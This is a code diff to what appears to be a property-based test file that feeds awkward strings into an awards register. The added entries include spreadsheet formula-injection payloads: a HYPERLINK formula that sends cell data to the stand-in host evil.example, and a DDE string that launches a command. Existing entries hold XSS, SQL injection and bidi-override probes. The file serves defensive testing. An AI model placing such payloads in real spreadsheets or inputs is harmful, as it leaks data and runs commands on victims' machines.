@@ -68,7 +68,8 @@ AWKWARD = ['<script>alert("x")</script>', "Tom & Jerry's <b>bold</b>", 'a "quote
            "😀🚀🇬🇧", "{{ jinja }} {% raw %}", "# not a comment", "- not a list", "key: value", "yes", "null", "~",
            "0o17", "1e3", "0x1F", "2025-01-01", " padded ", "tab\there", "crlf\r\nend", "“smart” ‘quotes’ — dash",
            "comma, semicolon; pipe|", "back\\slash", "'; DROP TABLE awards; --", "&amp; &lt;", "\u2028\u2029\x85",
-           "\u00a0nbsp", "RTL \u202eevil", "zero\u200bwidth"]
+           "\u00a0nbsp", "RTL \u202eevil", "zero\u200bwidth",
+           '=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+44 20", "-2+3"]
 _ANY_CHAR = st.characters(codec="utf-8")  # every code point a UTF-8 file can hold (no lone surrogates)
 # control characters but tab and new line, U+FFFE/U+FFFF, and invisible characters (refused in names; bidi
 # overrides everywhere): a valid register cannot hold them, so the generator leaves them out
